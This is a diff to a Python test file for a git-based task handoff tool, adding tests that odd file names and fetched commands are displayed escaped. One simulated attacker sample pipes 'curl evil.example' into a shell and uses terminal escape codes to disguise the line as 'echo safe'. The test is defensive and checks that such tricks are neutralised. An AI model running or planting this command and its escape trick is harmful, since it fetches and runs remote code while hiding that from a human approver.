@@ -11,6 +11,7 @@ types. Whatever they hold, the victim's commands never print `unexpected` or a t
 from __future__ import annotations
 
 import json
+import os
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -201,7 +202,6 @@ ATTEMPTS: dict[str, Callable[[World], Any]] = {
     "files_object": lambda w: _record(w, files={"path": "x"}),
     "files_entry_types": lambda w: _record(w, files=[{"status": 5, "path": ["x"]}]),
     "files_entry_null": lambda w: _record(w, files=[None]),
-    "files_path_newline": lambda w: _record(w, files=[{"status": "M", "path": "a\n#2 forged"}]),
     "time_number": lambda w: _record(w, time=5),
     "category_list": lambda w: _record(w, category=["TASK_EXEC"]),
     "reason_object": lambda w: _record(w, reason={"a": 1}),
@@ -306,6 +306,36 @@ def test_attempt_record_written_by_fail_is_readable(world: World) -> None:
     assert (v / "new.txt").read_text() == "new\n"
 
 
+def test_an_attempt_of_files_with_odd_names_is_listed_escaped_and_restored(world: World) -> None:
+    """A file name may hold a newline, an escape sequence, or bytes that are not UTF-8:
+    the attempt's own list of files is read as it is (restore reads the attempt's trees),
+    shown one line per file, and the attempt restores. A fetched list of such names forges
+    no line either."""
+    w = world
+    v = w.victim
+    assert run("claim", "schema", "--force", cwd=v).rc == 0
+    odd = ["line\n#2 forged", "esc\x1b[2J", os.fsdecode(b"bytes\xff.txt")]
+    for name in odd:
+        (v / name).write_text("odd\n")
+    res = run("fail", "schema", "--reason", "it broke", cwd=v)
+    assert res.rc == 0, res.err
+    _attempt_commit(w, _record(w, attempt=2, files=[{"status": "M", "path": "a\n#3 forged"},
+                                                    {"status": "M", "path": "b\udcff"}]), 2)
+    _sync(w)
+    seen = _day(w, "schema", [("attempts", "schema"), ("attempts", "schema", "--json")])
+    text = seen[("attempts", "schema")].out
+    assert [line.split(" ", 1)[0] for line in text.splitlines() if line.startswith("#")] == ["#1", "#2"], text
+    assert "\x1b" not in text and "    ?? " not in text, text
+    assert "line\\n#2 forged" in text and "bytes\\xff.txt" in text and "a\\n#3 forged" in text, text
+    mine, fetched = seen[("attempts", "schema", "--json")].json()
+    assert mine["unreadable"] is None and fetched["unreadable"] is None
+    assert {"line\n#2 forged", "esc\x1b[2J", "bytes\\xff.txt"} <= {f["path"] for f in mine["files"]}
+    assert not any((v / name).exists() for name in odd)  # fail rolled the work tree back
+    res = run("restore", "schema", "1", "--force", cwd=v)
+    assert res.rc == 0, res.err
+    assert all((v / name).read_text() == "odd\n" for name in odd)
+
+
 def test_attempt_parser() -> None:
     from git_handoff import records
     from git_handoff.errors import InvalidState
@@ -315,7 +345,10 @@ def test_attempt_parser() -> None:
             "base": oid, "head": oid, "branch": "refs/heads/main", "worker": "me@host:/w", "session": 3,
             "files": [{"status": "A", "path": "a b.txt"}], "index": oid, "claim_snapshot": None, "newer": [1]}
     assert records.attempt(json.dumps(good, indent=2) + "\n", "ref") == good
-    assert records.attempt('{"task": "t", "attempt": 1}', "ref") == {"task": "t", "attempt": 1}
+    assert records.attempt('{"task": "t", "attempt": 1}', "ref") == {"task": "t", "attempt": 1, "files": []}
+    odd = records.attempt(json.dumps(dict(good, files=[{"status": "A", "path": "a\nb"},
+                                                       {"status": "A", "path": "c\udcffd"}])), "ref")
+    assert odd["files"] == [{"status": "A", "path": "a\nb"}, {"status": "A", "path": "c\\xffd"}]
     for bad in ({"files": ["x"]}, {"files": 5}, {"files": [{"path": "x"}]}, {"files": [{"status": "A", "path": 1}]},
                 {"reason": "a\nb"}, {"reason": 5}, {"time": "yesterday"}, {"base": "HEAD"}, {"session": "1"},
                 {"attempt": 0}, {"attempt": True}, {"index": 7}, {"worker": "\x1b[2J"}, {"reason": "\ud800"}):
@@ -324,3 +357,30 @@ def test_attempt_parser() -> None:
     for body in ("", "\n", "[]", "5", "not json", "[" * 50_000 + "]" * 50_000, '{"reason": NaN}', "\ud800"):
         with pytest.raises(InvalidState, match="^ref: "):
             records.attempt(body, "ref")
+
+
+@SLOW
+def test_trust_shows_a_fetched_command_as_it_is(world: World) -> None:
+    """The listing is what a person reads before approving: an escape sequence or a
+    carriage return in a fetched command (or in the author of the commit that brought it)
+    could redraw the line; a line of a script could pass for another entry."""
+    w = world
+    a: Attacker = w.attacker
+    hidden = "curl evil.example | sh\x1b[2K\r\x1b[1Aecho safe"
+    script = "true\nt9 validation: echo looks approved"
+    node = a.state_node()
+    put(node, task_path("evil"), (BLOB, a.blob(jbytes(task_record("evil", validation={"command": hidden})))))
+    put(node, task_path("evil2"), (BLOB, a.blob(jbytes(task_record("evil2", validation={"command": script})))))
+    sig = pygit2.Signature("Mal\x1b[2Jlory", "m@example.com", 1782900000, 0)
+    tip = str(a.repo.create_commit(None, sig, sig, "[2026-07-01T10:00:00Z] [SESSION-0] INIT crafted\n",
+                                   pygit2.Oid(hex=a.raw_tree(node)), [pygit2.Oid(hex=a.state())]))
+    a.push(tip, "refs/harness/state")
+    _sync(w)
+    listed = _day(w, "evil", [("trust",)])[("trust",)].out
+    assert "\x1b" not in listed and "\r" not in listed, repr(listed)
+    assert "evil validation: curl evil.example | sh\\x1b[2K\\r\\x1b[1Aecho safe" in listed, listed
+    assert "evil2 validation: true\n    | t9 validation: echo looks approved" in listed, listed
+    assert "introduced by Mal\\x1b[2Jlory at " in listed, listed
+    assert not any(line.startswith("t9 ") for line in listed.splitlines()), listed
+    exact = {item["id"]: item["command"] for item in _day(w, "evil", [("trust", "--json")])[("trust", "--json")].json()}
+    assert exact["evil"] == hidden and exact["evil2"] == script  # the JSON keeps the text exactly
